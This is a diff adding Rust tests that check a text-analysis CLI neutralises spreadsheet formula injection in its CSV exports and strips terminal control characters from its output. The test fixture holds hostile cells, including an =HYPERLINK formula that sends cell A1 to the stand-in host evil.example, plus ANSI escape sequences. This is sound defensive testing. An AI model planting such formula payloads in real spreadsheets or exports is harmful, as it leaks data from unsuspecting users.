@@ -411,3 +411,81 @@ fn row7_damaged_model_is_refused_by_classify() {
     std::fs::write(&model, &old).unwrap();
     fails(classify(), 1, &["model format 3", "refit it with `stance fit`"]);
 }
+
+// Rows 8 and 9: CSV cells a spreadsheet would run are neutralised; terminals get no control characters.
+
+fn hostile_corpus() -> tempfile::TempDir {
+    let evil_text = format!("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") {EN_TEXT}\n\n@SUM(1+1) {EN_TEXT}");
+    corpus(
+        Some(
+            "file,issuer,bloc\na.txt,Russia,east\nb.txt,\"=HYPERLINK(\"\"http://evil.example\"\")\",west\nc.txt,\"\u{1b}[2J\u{1b}[31mEvil\u{7}\",west\n",
+        ),
+        &[
+            ("a.txt", FR_TEXT.as_bytes()),
+            ("b.txt", evil_text.as_bytes()),
+            ("c.txt", b"We oppose any legally binding instrument and reject the Budapest Convention.\n\nWe support the multistakeholder model of Internet governance today."),
+        ],
+    )
+}
+
+/// Every cell of a CSV text; `true` when a cell would run as a formula.
+fn formula_cells(text: &str) -> Vec<String> {
+    let mut r = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
+    let mut bad = Vec::new();
+    for rec in r.records() {
+        for cell in rec.unwrap().iter() {
+            if cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err() {
+                bad.push(cell.to_string());
+            }
+        }
+    }
+    bad
+}
+
+#[test]
+fn row8_csv_exports_neutralise_formulas_keep_negative_numbers() {
+    let c = hostile_corpus();
+    let out = tempfile::tempdir().unwrap();
+    let mut export = stance(&["export", "--draws", "0", "--compare", "east", "west", "--corpus"]);
+    export.arg(c.path()).arg("--out").arg(out.path());
+    stdout(bounded(export));
+    let mut negatives = 0;
+    for f in ["passages.csv", "topics.csv", "similarity.csv", "stances.csv", "keyness.csv"] {
+        let text = std::fs::read_to_string(out.path().join(f)).unwrap();
+        assert!(formula_cells(&text).is_empty(), "{f}: {:?}", formula_cells(&text));
+        negatives += text.split([',', '\n']).filter(|c| c.starts_with('-') && c.parse::<f64>().is_ok()).count();
+    }
+    let passages = std::fs::read_to_string(out.path().join("passages.csv")).unwrap();
+    assert!(passages.contains("'=HYPERLINK(") && passages.contains("'@SUM(1+1)"), "neutralised, kept");
+    assert!(negatives > 0, "negative numbers stay numbers");
+    // --format csv on stdout too; --raw-csv turns it off.
+    let mut sim = stance(&["similarity", "--format", "csv", "--draws", "0", "--corpus"]);
+    sim.arg(c.path());
+    let text = stdout(sim);
+    assert!(formula_cells(&text).is_empty() && text.contains("'=HYPERLINK("), "{text}");
+    let mut raw = stance(&["similarity", "--format", "csv", "--draws", "0", "--raw-csv", "--corpus"]);
+    raw.arg(c.path());
+    let raw = stdout(raw);
+    assert!(raw.contains("\n\"=HYPERLINK(") && !raw.contains("'="), "--raw-csv writes cells as they are: {raw}");
+}
+
+#[test]
+fn row9_tables_and_errors_carry_no_control_characters() {
+    let c = hostile_corpus();
+    for args in [&["similarity", "--draws", "0"][..], &["passages"][..], &["topics"][..]] {
+        let mut cmd = stance(args);
+        cmd.arg("--corpus").arg(c.path());
+        let out = stdout(cmd);
+        assert!(out.contains("Evil"), "{args:?}: the issuer is still shown");
+        assert!(
+            !out.contains('\u{1b}') && !out.contains('\u{7}'),
+            "{args:?}: raw control characters reach the terminal"
+        );
+    }
+    let mut cmd = stance(&["compare", "\u{1b}[2Jnato", "west", "--corpus"]);
+    cmd.arg(c.path());
+    let out = cmd.output().unwrap();
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert_eq!(out.status.code(), Some(2), "{err}");
+    assert!(err.contains("nato") && !err.contains('\u{1b}'), "{err:?}");
+}
